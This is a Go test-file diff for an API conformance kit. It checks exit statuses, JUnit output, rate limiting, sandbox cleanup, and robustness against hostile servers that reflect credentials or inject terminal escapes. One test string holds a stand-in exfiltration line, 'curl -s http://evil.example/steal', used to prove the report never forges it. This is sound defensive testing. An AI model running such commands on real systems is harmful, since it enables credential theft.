+		if status != 1 || strings.Join(rep.results("fail"), " ") != "orders.default_limit" || rep.Summary.Total != 6 {
+			t.Errorf("-rules orders.default_limit,http.*: %d %v\n%s", status, rep.results("fail"), out)
+		}
+		status, rep, out = kit(t, "-rules", "http.no_store") // alone: it judges every rule's answers
+		if status != 0 || strings.Join(rep.results("fail"), " ") != "http.no_store" || rep.Summary.Total != 1 {
+			t.Errorf("-rules http.no_store: %d %v\n%s", status, rep.results("fail"), out)
+		}
+		if status, _, _ = kit(t, "-rules", "http.no_store", "-strict"); status != 1 {
+			t.Errorf("-strict with a SHOULD rule failed: exit status %d", status)
+		}
+	})
+	t.Run("expectations", func(t *testing.T) {
+		expect := writeTemp(t, `{"orders.default_limit":"live pages 25","orders.max_limit":"thought to differ","orders.*":"the orders","orders.d*":"the d orders"}`)
+		status, rep, out := kit(t, "-rules", "orders.default_limit,orders.max_limit,orders.unknown,orders.order", "-expect", expect)
+		got := map[string]string{}
+		for _, r := range rep.Rules {
+			got[r.ID] = r.Result + ": " + *r.Reason
+		}
+		want := map[string]string{
+			"orders.default_limit": "expected: live pages 25", // its id over the prefixes
+			"orders.max_limit":     `pass: expected to fail (thought to differ), but passes: the expectation is stale; remove "orders.max_limit" from ` + expect,
+			"orders.unknown":       `pass: expected to fail (the orders), but passes: the expectation is stale; remove "orders.*" from ` + expect,
+			"orders.order":         `pass: expected to fail (the orders), but passes: the expectation is stale; remove "orders.*" from ` + expect,
+		}
+		if status != 1 || !maps.Equal(got, want) || rep.Summary.Expected != 1 || rep.Summary.Stale != 3 || rep.Summary.Passed != 3 {
+			t.Errorf("-expect: %d %v %+v\n%s", status, got, rep.Summary, out)
+		}
+		longer := writeTemp(t, `{"orders.*":"the orders","orders.default_*":"the default page"}`)
+		if _, rep, _ := kit(t, "-rules", "orders.default_limit", "-expect", longer); rep.reason("orders.default_limit") != "the default page" {
+			t.Errorf("of two prefixes, the reason of %q, not the longer's", rep.reason("orders.default_limit"))
+		}
+		if status, rep, _ := kit(t, "-rules", "orders.default_limit", "-expect", writeTemp(t, `{"orders.default_limit":"live pages 25"}`)); status != 0 || rep.Summary.Expected != 1 {
+			t.Errorf("an expected failure alone: %d %+v", status, rep.Summary)
+		}
+	})
+	t.Run("junit", func(t *testing.T) {
+		var junit bytes.Buffer
+		expect := writeTemp(t, `{"orders.default_limit":"live pages 25"}`)
+		runCheck(t.Context(), []string{"-base-url", base, "-key", "sk_test_sandbox_all", "-format", "junit", "-rules", "orders.default_limit,tracking.no_offset,http.no_store", "-expect", expect}, func(string) string { return "" }, &junit, io.Discard)
+		suite := junitSuite(t, junit.Bytes())
+		if len(suite.Cases) != 3 {
+			t.Fatalf("junit: %d cases\n%s", len(suite.Cases), junit.String())
+		}
+		if c := suite.Cases[0]; c.Class != "tracking" || c.Name != "tracking.no_offset" || c.Failure != nil || c.Skipped != nil { // the catalogue's order
+			t.Errorf("a pass in JUnit: %+v", c)
+		}
+		if c := suite.Cases[1]; c.Skipped == nil || c.Skipped.Message != "expected failure: live pages 25" || !strings.Contains(c.Skipped.Text, "expected: limit 20 when none is sent") {
+			t.Errorf("an expected failure in JUnit, its evidence with it: %+v", c)
+		}
+		c := suite.Cases[2]
+		if c.Failure == nil || strings.Count(c.Failure.Text, "expected: ") != maxCited || !strings.Contains(c.Failure.Text, "answers that failed this rule; the first 5 are cited]") {
+			t.Fatalf("a failure of many answers, cited up to %d and counted: %+v", maxCited, c)
+		}
+		if strings.Contains(c.Failure.Text, "request id: \n") {
+			t.Error("an empty request id: line")
+		}
+	})
 }
 
-// TestConformanceExitStatuses: a usage error names its flag or variable (2); a server the
-// kit cannot judge says why (2): unreachable, a key refused or lacking a scope, not the API.
+// junitCase is a test case of the kit's JUnit report.
+type junitCase struct {
+	Class   string `xml:"classname,attr"`
+	Name    string `xml:"name,attr"`
+	Failure *struct {
+		Message string `xml:"message,attr"`
+		Text    string `xml:",chardata"`
+	} `xml:"failure"`
+	Skipped *struct {
+		Message string `xml:"message,attr"`
+		Text    string `xml:",chardata"`
+	} `xml:"skipped"`
+}
+
+// junitSuite decodes the kit's JUnit report, which must be well-formed XML 1.0.
+func junitSuite(t *testing.T, b []byte) struct {
+	Name  string      `xml:"name,attr"`
+	Cases []junitCase `xml:"testcase"`
+} {
+	t.Helper()
+	var suite struct {
+		Name  string      `xml:"name,attr"`
+		Cases []junitCase `xml:"testcase"`
+	}
+	if err := xml.Unmarshal(b, &suite); err != nil || suite.Name != "conformance" {
+		t.Fatalf("junit: %v\n%s", err, b)
+	}
+	return suite
+}
+
+// TestConformanceExitStatuses: a usage error names its flag or variable, never a key's
+// value (2); a server the kit cannot judge says why (2): unreachable, a key refused or
+// lacking a scope, not the API, a base URL without its /v1.
 func TestConformanceExitStatuses(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t, envOptions{rate: -1, quiet: true})
@@ -12034,27 +12454,34 @@ func TestConformanceExitStatuses(t *testing.T) {
 		want string
 	}{
 		{"an unknown flag", nil, []string{"-nope"}, "flag provided but not defined: -nope (see check -h for the flags)"},
-		{"a base URL not ending in /v1", nil, []string{"-base-url", "http://127.0.0.1:8080/api", "-key", "k"}, `-base-url "http://127.0.0.1:8080/api": want an absolute http or https URL whose path ends in /v1`},
-		{"a base URL from the environment", map[string]string{"SANDBOX_CHECK_BASE_URL": "ftp://x/v1", "SANDBOX_CHECK_KEY": "k"}, nil, `SANDBOX_CHECK_BASE_URL "ftp://x/v1": want an absolute http or https URL`},
+		{"a base URL that is none", nil, []string{"-base-url", "/v1", "-key", "sk_test_abcdefgh"}, `invalid value "/v1" for flag -base-url: want an absolute http or https URL`},
+		{"a base URL from the environment", map[string]string{"SANDBOX_CHECK_BASE_URL": "ftp://x/v1", "SANDBOX_CHECK_KEY": "sk_test_abcdefgh"}, nil, `invalid value "ftp://x/v1" for SANDBOX_CHECK_BASE_URL (the fallback of -base-url): want an absolute http or https URL`},
 		{"no key", nil, []string{"-base-url", base}, "-key: a test key with both scopes is required with -base-url (or SANDBOX_CHECK_KEY)"},
-		{"a key not sendable", nil, []string{"-base-url", base, "-key", "two words"}, "-key: not sendable as a Bearer credential"},
-		{"a profile", nil, []string{"-profile", "live"}, `-profile "live": want sandbox or domain_adapter`},
-		{"a mode", map[string]string{"SANDBOX_CHECK_MODE": "fast"}, nil, `SANDBOX_CHECK_MODE "fast": want safe or full`},
-		{"a format", nil, []string{"-format", "xml"}, `-format "xml": want text, json or junit`},
-		{"a rule", nil, []string{"-rules", "tracking.nope"}, `-rules: "tracking.nope" names no rule`},
-		{"a prefix", nil, []string{"-rules", "nope.*"}, `-rules: "nope.*" names no rule`},
+		{"a key not sendable", nil, []string{"-base-url", base, "-key", "two words here"}, "-key: not sendable as a Bearer credential"},
+		{"a short key", map[string]string{"SANDBOX_CHECK_ALT_KEY": "k1"}, []string{"-base-url", base, "-key", "sk_test_abcdefgh"}, "SANDBOX_CHECK_ALT_KEY: shorter than 8 characters"},
+		{"a profile", nil, []string{"-profile", "live"}, `invalid value "live" for flag -profile: want sandbox or domain_adapter`},
+		{"a mode", map[string]string{"SANDBOX_CHECK_MODE": "fast"}, nil, `invalid value "fast" for SANDBOX_CHECK_MODE (the fallback of -mode): want safe or full`},
+		{"a format", nil, []string{"-format", "xml"}, `invalid value "xml" for flag -format: want text or json or junit`},
+		{"a timeout", nil, []string{"-timeout", "0s"}, `invalid value "0s" for flag -timeout: want a positive Go duration`},
+		{"a rule", nil, []string{"-rules", "tracking.nope"}, `"tracking.nope" names no rule`},
+		{"a prefix", nil, []string{"-rules", "nope.*"}, `"nope.*" names no rule`},
 		{"an expectation of no rule", nil, []string{"-expect", writeTemp(t, `{"auth.nope":"x"}`)}, `"auth.nope" names no rule`},
-		{"unreachable", nil, []string{"-base-url", closed, "-key", "k", "-timeout", "2s"}, "the base URL " + closed + " cannot be reached, or does not answer HTTP"},
-		{"a refused key", nil, []string{"-base-url", base, "-key", "sk_test_nobody"}, "answered 401: the key is refused"},
+		{"an expectation file that is none", nil, []string{"-expect", writeTemp(t, `[1]`)}, "want a JSON object of rule id to reason"},
+		{"unreachable", nil, []string{"-base-url", closed, "-key", "sk_test_abcdefgh", "-timeout", "2s"}, "the base URL " + closed + " cannot be reached, or does not answer HTTP"},
+		{"a refused key", nil, []string{"-base-url", base, "-key", "sk_test_nobody00"}, "answered 401: the key is refused"},
 		{"a key without a scope", nil, []string{"-base-url", base, "-key", "sk_test_sandbox_tracking"}, "answered 403: the key lacks a scope"},
-		{"not the API", nil, []string{"-base-url", notAPI.URL + "/v1", "-key", "k"}, "with a body that is not JSON: this is not the API"},
+		{"not the API", nil, []string{"-base-url", notAPI.URL + "/v1", "-key", "sk_test_abcdefgh"}, "with a body that is not a JSON object: this is not the API"},
 		{"a path of no API", nil, []string{"-base-url", strings.TrimSuffix(base, "/v1") + "/elsewhere/v1", "-key", "sk_test_sandbox_all"}, "answered 404: this is not the API"},
+		{"a base URL without /v1", nil, []string{"-base-url", strings.TrimSuffix(base, "/v1"), "-key", "sk_test_sandbox_all"}, "answered 404: is /v1 missing from the base URL?"},
 	} {
 		t.Run(caseName(tt.name), func(t *testing.T) {
 			t.Parallel()
 			status, _, out, errs := kitRun(t, t.Context(), tt.env, tt.args...)
 			if status != 2 || !strings.Contains(errs, tt.want) || out != "" {
 				t.Errorf("exit status %d, stderr %q; want 2 and %q", status, errs, tt.want)
+			}
+			if strings.Contains(errs, "two words here") || strings.Contains(errs, "k1") {
+				t.Errorf("a usage error shows the key: %s", errs)
 			}
 		})
 	}
@@ -12069,112 +12496,516 @@ func TestConformanceExitStatuses(t *testing.T) {
 	}
 }
 
-// TestConformanceAgainstAHostileServer: the kit carries keys to a server it does not trust:
-// it follows no redirect (the other host hears nothing), reads at most 1 MiB of an answer,
-// and gives each request -timeout, failing the rules those answers belong to and ending.
-func TestConformanceAgainstAHostileServer(t *testing.T) {
+// TestConformanceAtAnyBase: a server that serves the API's paths at its root (as a Prism mock
+// does) is judged at the base given.
+func TestConformanceAtAnyBase(t *testing.T) {
 	t.Parallel()
-	var heard atomic.Int64
-	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { heard.Add(1) }))
-	t.Cleanup(elsewhere.Close)
+	e := newEnv(t, envOptions{rate: -1, quiet: true})
+	root := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		rewritePath(r, "/v1"+r.URL.Path)
+		e.h.ServeHTTP(w, r)
+	}))
+	t.Cleanup(root.Close)
+	status, rep, out, _ := kitRun(t, t.Context(), nil, "-base-url", root.URL+"/", "-key", "sk_test_sandbox_all", "-format", "json")
+	if status != 0 || rep.World != "own" || rep.BaseURL != root.URL || len(rep.results("fail")) != 0 {
+		t.Errorf("at the root: %d %s %v\n%s", status, rep.BaseURL, rep.results("fail"), out)
+	}
+}
+
+// hostileRun runs the kit against the sandbox behind a hostile server with args, in every
+// report format, and returns each report (decoded: the JSON one strictly, the JUnit one as
+// XML 1.0) with what it wrote to standard error; every key the run was given or made, as
+// hostile saw them.
+type hostileRun struct {
+	status    int
+	json      kitReport
+	text, err string
+	junit     []byte
+	keys      []string
+}
+
+func runHostile(t *testing.T, e *env, b brokenServer, args ...string) []hostileRun {
+	t.Helper()
+	made := &madeKeys{}
+	answer := b.answer
+	b.answer = func(r *http.Request, a *brokenAnswer) {
+		made.note(r, a)
+		if answer != nil {
+			answer(r, a)
+		}
+	}
+	base := kitServer(t, e, b)
+	var runs []hostileRun
+	for _, format := range []string{"text", "json", "junit"} {
+		var stdout, stderr bytes.Buffer
+		status := runCheck(t.Context(), append([]string{"-base-url", base, "-key", "sk_test_sandbox_all", "-alt-key", "sk_test_other_all", "-format", format}, args...), func(string) string { return "" }, &stdout, &stderr)
+		run := hostileRun{status: status, text: stdout.String(), err: stderr.String()}
+		switch format {
+		case "json":
+			if status < 2 {
+				dec := json.NewDecoder(bytes.NewReader(stdout.Bytes()))
+				dec.DisallowUnknownFields()
+				if err := dec.Decode(&run.json); err != nil {
+					t.Fatalf("the JSON report of a hostile run: %v\n%s", err, stdout.String())
+				}
+			}
+		case "junit":
+			run.junit = stdout.Bytes()
+			if status < 2 {
+				junitSuite(t, run.junit)
+			}
+		}
+		runs = append(runs, run)
+	}
+	made.mu.Lock()
+	defer made.mu.Unlock()
+	for i := range runs {
+		runs[i].keys = append([]string{"sk_test_sandbox_all", "sk_test_other_all"}, made.keys...)
+	}
+	return runs
+}
+
+// holdsKey reports whether s holds a key, or a part of one of 8 characters or more.
+func holdsKey(s string, keys []string) string {
+	for _, key := range keys {
+		for i := 0; i+minKitKey <= len(key); i++ {
+			if part := key[i : i+minKitKey]; strings.Contains(s, part) {
+				return part
+			}
+		}
+	}
+	return ""
+}
+
+// TestConformanceNeverShowsAKey: a server that reflects the credential it is sent into
+// Request-Id, into a body whose 512-byte cut splits it, and into a problem: no report, in
+// any format, and no message holds a key or any part of one of 8 characters or more, the
+// keys given or the ones its sandboxes made; the curl of the evidence names each by its
+// role. A sandbox that answers with a key too short to mask is refused, saying so.
+func TestConformanceNeverShowsAKey(t *testing.T) {
+	t.Parallel()
 	for _, tt := range []struct {
 		name   string
 		broken brokenServer
-		args   []string
-		seen   string // what the evidence of the orders.retrieve or tracking rules says
+		shows  string // what the text report shows of a reflected key, masked
 	}{
-		{"a redirect elsewhere", brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
-			if strings.HasPrefix(r.URL.Path, "/v1/orders/") {
-				a.status, a.body = http.StatusFound, nil
-				a.header = http.Header{"Location": {elsewhere.URL + "/steal"}}
+		{"reflected into Request-Id", brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+			if auth := r.Header.Get("Authorization"); auth != "" && !strings.Contains(auth, unknownKey) { // the unknown key is no secret
+				a.header.Set("Request-Id", "req_"+auth)
+				a.header.Del("Cache-Control") // a failure, whose evidence cites its Request-Id
 			}
-		}}, nil, "status 302"},
-		{"a huge answer", brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
-			if isView(r) {
-				a.body = append(a.body, bytes.Repeat([]byte(" "), 2<<20)...)
+		}}, "request id: req_Bearer $"},
+		{"reflected into a body, cut at 512 bytes", brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+			if isView(r) { // the evidence's cut leaves 10 characters of the key before it
+				a.body = fmt.Appendf(nil, "%s%s", strings.Repeat("x", maxKitField-10-len("Bearer ")), r.Header.Get("Authorization"))
 			}
-		}}, nil, "the answer is over 1048576 bytes (1 MiB), the most the kit reads"},
-		{"a stalled answer", brokenServer{request: func(r *http.Request) {
-			if r.URL.Path == "/v1/tracking/CK1000000006" { // one lookup (tracking.by_number's); the rest answer, on a busy machine too
-				<-r.Context().Done() // until the kit gives up
+		}}, "xBearer [key]..."},
+		{"echoed in plain text", brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+			if a.status >= 400 {
+				a.header.Set("Content-Type", "text/plain")
+				a.body = []byte("you sent " + r.Header.Get("Authorization"))
 			}
-		}}, []string{"-timeout", "3s"}, "no answer: "},
+		}}, "body: you sent Bearer $"},
 	} {
 		t.Run(caseName(tt.name), func(t *testing.T) {
 			t.Parallel()
 			e := newEnv(t, envOptions{rate: -1, quiet: true})
-			base := kitServer(t, e, tt.broken)
-			status, rep, out, _ := kitRun(t, t.Context(), nil, append([]string{"-base-url", base, "-key", "sk_test_sandbox_all", "-format", "json"}, tt.args...)...)
-			if status != 1 || len(rep.results("fail")) == 0 {
-				t.Fatalf("exit status %d, failed %v\n%s", status, rep.results("fail"), out)
-			}
-			found := false
-			for _, r := range rep.Rules {
-				for _, ev := range r.Evidence {
-					found = found || strings.Contains(ev.Seen, tt.seen)
+			for i, run := range runHostile(t, e, tt.broken) {
+				if run.status == 2 {
+					t.Fatalf("the kit could not judge: %s", run.err)
 				}
-			}
-			if !found {
-				t.Errorf("no evidence says %q\n%s", tt.seen, out)
-			}
-			if len(out) > 4<<20 {
-				t.Errorf("a report of %d bytes", len(out))
-			}
-			if n := e.srv.book.count(e.clock.now()); n != 0 {
-				t.Errorf("%d of the kit's sandboxes left", n)
-			}
-			if heard.Load() != 0 {
-				t.Errorf("the host a redirect named heard %d requests", heard.Load())
+				for _, out := range []string{run.text, run.err} {
+					if part := holdsKey(out, run.keys); part != "" {
+						t.Errorf("a report holds %q, part of a key", part)
+					}
+				}
+				if i == 0 && !strings.Contains(run.text, tt.shows) {
+					t.Errorf("the text report does not show %q:\n%s", tt.shows, run.text)
+				}
 			}
 		})
 	}
-	// A first read that stalls: the kit cannot judge the server.
+	t.Run("a sandbox whose key is too short to mask", func(t *testing.T) {
+		t.Parallel()
+		e := newEnv(t, envOptions{rate: -1, quiet: true})
+		runs := runHostile(t, e, brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+			if isMaking(r) && a.status == 201 {
+				a.body = regexp.MustCompile(`"key":"sk_test_[a-z2-7]+"`).ReplaceAll(a.body, []byte(`"key":"k"`))
+			}
+		}})
+		run := runs[1]
+		if run.json.World != "discovered" || len(run.json.Warnings) == 0 || !strings.Contains(run.json.Warnings[0], "shorter than 8 characters") {
+			t.Errorf("a one-letter key from a sandbox: world %s, warnings %q", run.json.World, run.json.Warnings)
+		}
+		if strings.Count(run.text, "$") > 100 {
+			t.Errorf("the masking garbled the report: %d $ signs", strings.Count(run.text, "$"))
+		}
+	})
+}
+
+// TestConformanceReportsWhatAServerSendsSafely: escapes and newlines in bodies, ids and
+// header fields forge no line of the text report (no PASS line, no runnable curl line, no
+// terminal escape), the JUnit report is well-formed XML 1.0 whatever bytes come, and header
+// fields past 64 KiB, or a Request-Id of 1 MiB, are bounded in the evidence and fail the
+// rule that read them.
+func TestConformanceReportsWhatAServerSendsSafely(t *testing.T) {
+	t.Parallel()
+	forged := "\x1b[2J\x1b[31mPASS\x1b[0m\nPASS  auth.missing_key  forged\ncurl -s http://evil.example/steal\n\x00\x01\x0b\ufffe"
 	e := newEnv(t, envOptions{rate: -1, quiet: true})
-	base := kitServer(t, e, brokenServer{request: func(r *http.Request) { <-r.Context().Done() }})
-	if status, _, _, errs := kitRun(t, t.Context(), nil, "-base-url", base, "-key", "k", "-timeout", "200ms"); status != 2 || !strings.Contains(errs, "does not answer HTTP within -timeout 200ms") {
-		t.Errorf("a stalled first read: %d %s", status, errs)
+	runs := runHostile(t, e, brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+		if isView(r) { // Go's client refuses a header field holding a control character: a body can
+			a.status = 500
+			a.body = []byte(forged)
+		}
+	}})
+	text := runs[0].text
+	for i, line := range strings.Split(text, "\n") {
+		switch {
+		case strings.ContainsAny(line, "\x1b\x00\x01\x0b"):
+			t.Errorf("line %d of the text report holds a control character: %q", i, line)
+		case strings.HasPrefix(line, "PASS  auth.missing_key  forged"), strings.HasPrefix(strings.TrimSpace(line), "curl -s http://evil"):
+			t.Errorf("line %d of the text report is forged: %q", i, line)
+		}
+	}
+	if !strings.Contains(text, `\u001b[2J`) {
+		t.Errorf("the escape is not shown escaped:\n%s", text)
+	}
+	if runs[0].status != 1 || len(runs[1].json.results("fail")) == 0 {
+		t.Fatalf("the hostile run: %d %v", runs[0].status, runs[1].json.results("fail"))
+	}
+	// Headers without a bound: 4 MiB of them on every view; and a 1 MiB Request-Id elsewhere.
+	e = newEnv(t, envOptions{rate: -1, quiet: true})
+	runs = runHostile(t, e, brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+		switch {
+		case isView(r):
+			for i := range 64 {
+				a.header.Set(fmt.Sprintf("X-Flood-%d", i), strings.Repeat("f", 64<<10))
+			}
+		case isOrder(r):
+			a.header.Set("Request-Id", strings.Repeat("r", 1<<20))
+		}
+	}})
+	rep := runs[1].json
+	found := false
+	for _, r := range rep.Rules {
+		for _, ev := range r.Evidence {
+			found = found || strings.Contains(ev.Seen, "header fields are over 65536 bytes (64 KiB)")
+			if len(ev.RequestID) > maxKitField+3 || len(ev.Seen) > 4*maxKitField {
+				t.Errorf("%s: an evidence field of %d bytes", r.ID, max(len(ev.RequestID), len(ev.Seen)))
+			}
+		}
+	}
+	if !found || !slices.Contains(rep.results("fail"), "tracking.view_fields") {
+		t.Errorf("headers past 64 KiB: failed %v, and no evidence says so", rep.results("fail"))
+	}
+	for _, run := range runs {
+		if len(run.text) > 1<<20 {
+			t.Errorf("a report of %d bytes", len(run.text))
+		}
 	}
 }
 
-// TestConformanceNeverShowsAKey: a server that echoes the credential it is sent into every
-// answer: no report, in any format, and no message holds a key, the ones given or the ones
-// its sandboxes made; the curl of the evidence names each by its role.
-func TestConformanceNeverShowsAKey(t *testing.T) {
+// TestConformanceKeepsItsPaceWithinBounds: Retry-After as delay-seconds or an HTTP-date is
+// what a 429 asks for; a wait longer than -timeout is cut to it; a server that answers 429 to
+// every request, or asks for endless waits in RateLimit, ends the run with exit 2 (the kit's
+// sandboxes deleted) after 10 refusals in a row, rather than judging every rule against a
+// wall; a 429 met once is waited out and counted.
+func TestConformanceKeepsItsPaceWithinBounds(t *testing.T) {
 	t.Parallel()
-	e := newEnv(t, envOptions{rate: -1, quiet: true})
-	var mu sync.Mutex
-	keys := []string{"sk_test_sandbox_all", "sk_test_other_all"}
-	base := kitServer(t, e, brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
-		if a.status == 201 {
-			var made struct{ Keys []struct{ Key string } }
-			json.Unmarshal(a.body, &made)
-			mu.Lock()
-			for _, k := range made.Keys {
-				keys = append(keys, k.Key)
-			}
-			mu.Unlock()
+	now := time.Date(2026, 11, 27, 12, 0, 0, 0, time.UTC)
+	for _, tt := range []struct {
+		value string
+		want  time.Duration
+	}{
+		{"3", 3 * time.Second}, {"0", 0}, {now.Add(30 * time.Second).Format(http.TimeFormat), 30 * time.Second},
+		{now.Add(-time.Minute).Format(http.TimeFormat), 0}, {"", time.Second}, {"soon", time.Second}, {"-1", time.Second},
+	} {
+		if got := retryAfter(http.Header{"Retry-After": {tt.value}}, now); got != tt.want {
+			t.Errorf("retryAfter(%q) = %v, want %v", tt.value, got, tt.want)
 		}
-		if a.status >= 400 { // the credential echoed, and every error in plain text
-			a.header.Set("Content-Type", "text/plain")
-			a.body = []byte("you sent " + r.Header.Get("Authorization"))
+	}
+	for _, tt := range []struct {
+		name   string
+		answer func(r *http.Request, a *brokenAnswer, main string) // main: the key of the kit's main sandbox
+		want   string
+	}{
+		{"429 to everything", func(r *http.Request, a *brokenAnswer, _ string) {
+			problemAnswer(a, 429, "rate_limited")
+			a.header.Set("Retry-After", now.Add(30*time.Second).Format(http.TimeFormat))
+		}, "the server refused the kit's pace"},
+		{"an endless wait in RateLimit", func(r *http.Request, a *brokenAnswer, main string) { // the key its DELETE goes with too
+			if r.Header.Get("Authorization") == "Bearer "+main {
+				a.header.Set("RateLimit", `"default";r=0;t=999999999`)
+				a.header.Del("RateLimit-Policy")
+			}
+		}, "waits in a row longer than -timeout"},
+	} {
+		t.Run(caseName(tt.name), func(t *testing.T) {
+			t.Parallel()
+			e := newEnv(t, envOptions{rate: -1, quiet: true})
+			var requests atomic.Int64
+			made := &madeKeys{}
+			base := kitServer(t, e, brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+				requests.Add(1)
+				made.note(r, a)
+				if !isMaking(r) && r.Method != http.MethodDelete {
+					tt.answer(r, a, made.at(0))
+				}
+			}})
+			status, _, out, errs := kitRun(t, t.Context(), nil, "-base-url", base, "-key", "sk_test_sandbox_all", "-timeout", "50ms")
+			if status != 2 || !strings.Contains(errs, tt.want) || out != "" {
+				t.Errorf("exit status %d, stderr %q; want 2 saying %q", status, errs, tt.want)
+			}
+			if n := requests.Load(); n > 60 {
+				t.Errorf("%d requests before the kit stopped: want at most 10 refusals in a row, with their retries", n)
+			}
+			if n := e.srv.registry.count(e.srv.now()); n != 0 {
+				t.Errorf("%d of the kit's sandboxes left", n)
+			}
+		})
+	}
+	// One 429 on the first page of orders, then the page: waited out, sent again.
+	var once sync.Once
+	base := kitServer(t, newEnv(t, envOptions{rate: -1, quiet: true}), brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+		if isOrders(r) && r.URL.RawQuery == "" {
+			once.Do(func() {
+				problemAnswer(a, 429, "rate_limited")
+				a.header.Set("Retry-After", "0")
+			})
 		}
 	}})
-	var outputs []string
-	for _, format := range []string{"text", "json", "junit"} {
-		status, _, out, errs := kitRun(t, t.Context(), nil, "-base-url", base, "-key", "sk_test_sandbox_all", "-alt-key", "sk_test_other_all", "-format", format)
-		if status != 0 || !strings.Contains(out, `"Authorization: Bearer $`) && format != "junit" {
-			t.Errorf("%s: exit status %d, no curl naming a key by its role:\n%s", format, status, out)
-		}
-		outputs = append(outputs, out, errs)
+	status, rep, out, _ := kitRun(t, t.Context(), nil, "-base-url", base, "-key", "sk_test_sandbox_all", "-rules", "orders.default_limit", "-format", "json")
+	if status != 0 || rep.Summary.Retried != 1 || rep.Summary.Passed != 1 {
+		t.Errorf("a 429 waited out: %d, %+v\n%s", status, rep.Summary, out)
 	}
-	mu.Lock()
-	defer mu.Unlock()
-	for _, out := range outputs {
-		for _, key := range keys {
-			if strings.Contains(out, key) {
-				t.Errorf("a report holds the key %s...", key[:10])
+}
+
+// TestConformanceSaysWhatItCouldNotDelete: the kit's sandboxes are deleted at once, each
+// within its own bound: one whose DELETE stalls, or answers 500, is named (its account, never
+// its key) in the report's warnings and on standard error, and the other is deleted; a 201
+// over 1 MiB, or one whose key holds a newline, gives no world, is said so, and what it made
+// is deleted.
+func TestConformanceSaysWhatItCouldNotDelete(t *testing.T) {
+	t.Parallel()
+	for _, tt := range []struct {
+		name    string
+		delete  string                                 // what the main sandbox's DELETE meets: "stall" or "500"
+		answer  func(r *http.Request, a *brokenAnswer) // a 201 rewritten
+		left    int                                    // sandboxes left
+		world   string
+		warning string
+	}{
+		{name: "a DELETE that stalls", delete: "stall", left: 1, world: "own", warning: "its DELETE got no answer within 4s"},
+		{name: "a DELETE answered 500", delete: "500", left: 1, world: "own", warning: "its DELETE answered 500, not 204"},
+		{name: "a 201 over 1 MiB", answer: func(r *http.Request, a *brokenAnswer) {
+			if isMaking(r) && a.status == 201 {
+				a.body = append(a.body[:len(a.body)-1], []byte(`,"padding":"`+strings.Repeat("p", 1<<20)+`"}`)...)
+			}
+		}, world: "discovered", warning: "the answer's body is over 1048576 bytes"},
+		{name: "a key with a newline", answer: func(r *http.Request, a *brokenAnswer) {
+			if isMaking(r) && a.status == 201 {
+				a.body = bytes.Replace(a.body, []byte(`"key":"sk_test_`), []byte(`"key":"sk_test_\n`), 1)
+			}
+		}, world: "discovered", warning: "its key 1 is refused: not sendable as a Bearer credential"},
+	} {
+		t.Run(caseName(tt.name), func(t *testing.T) {
+			t.Parallel()
+			e := newEnv(t, envOptions{rate: -1, quiet: true})
+			var mu sync.Mutex
+			main := "" // the main sandbox's account: its 201 gives more than one key
+			isMain := func(r *http.Request) bool {
+				mu.Lock()
+				defer mu.Unlock()
+				return r.Method == http.MethodDelete && main != "" && strings.HasSuffix(r.URL.Path, "/"+main)
+			}
+			base := kitServer(t, e, brokenServer{
+				request: func(r *http.Request) {
+					switch {
+					case isMain(r) && tt.delete == "stall":
+						<-r.Context().Done() // the kit gave up: it deletes nothing
+						rewritePath(r, "/v1/failing")
+					case isMain(r) && tt.delete == "500":
+						rewritePath(r, "/v1/failing")
+					}
+				},
+				answer: func(r *http.Request, a *brokenAnswer) {
+					if r.URL.Path == "/v1/failing" {
+						problemAnswer(a, 500, "internal_error")
+					}
+					if isMaking(r) && a.status == 201 && bytes.Count(a.body, []byte(`"key"`)) > 1 {
+						var made struct{ Account string }
+						json.Unmarshal(a.body, &made)
+						mu.Lock()
+						main = made.Account
+						mu.Unlock()
+					}
+					if tt.answer != nil {
+						tt.answer(r, a)
+					}
+				},
+			})
+			status, rep, out, errs := kitRun(t, t.Context(), nil, "-base-url", base, "-key", "sk_test_sandbox_all", "-format", "json")
+			if status == 2 || rep.World != tt.world {
+				t.Fatalf("exit status %d, world %s: %s\n%s", status, rep.World, errs, out)
+			}
+			if n := e.srv.registry.count(e.srv.now()); n != tt.left {
+				t.Errorf("%d of the kit's sandboxes left, want %d", n, tt.left)
+			}
+			said := strings.Join(rep.Warnings, "\n")
+			if !strings.Contains(said, tt.warning) || tt.left > 0 && !strings.Contains(errs, tt.warning) {
+				t.Errorf("warnings %q, stderr %q: want them to say %q", rep.Warnings, errs, tt.warning)
+			}
+			if tt.left > 0 && (!strings.Contains(said, "sandbox "+main+" was not deleted") || strings.Contains(said+errs, "sk_test_")) {
+				t.Errorf("the warning does not name the account, or names a key: %q", said)
+			}
+		})
+	}
+}
+
+// TestConformanceReadsAsHTTPAndJSONDo: what HTTP and JSON let a server write in more than one
+// way fails nothing: Cache-Control's directives in any case, or split over two field lines;
+// a number written 20.0 or 2e1; members in another order.
+func TestConformanceReadsAsHTTPAndJSONDo(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t, envOptions{rate: -1, quiet: true})
+	base := kitServer(t, e, brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+		if isView(r) {
+			a.header["Cache-Control"] = []string{"private", "No-Store"}
+		} else {
+			a.header.Set("Cache-Control", "No-Store")
+		}
+		a.body = bytes.ReplaceAll(a.body, []byte(`"limit":20,`), []byte(`"limit":20.0,`))
+		a.body = bytes.ReplaceAll(a.body, []byte(`"limit":100,`), []byte(`"limit":1e2,`))
+		a.body = bytes.ReplaceAll(a.body, []byte(`"status":404,`), []byte(`"status":404.0,`))
+		if isOrder(r) && a.status == 200 { // members in another order
+			rewriteJSON(a, func(v any) any { return v })
+		}
+	}})
+	status, rep, out, _ := kitRun(t, t.Context(), nil, "-base-url", base, "-key", "sk_test_sandbox_all", "-format", "json")
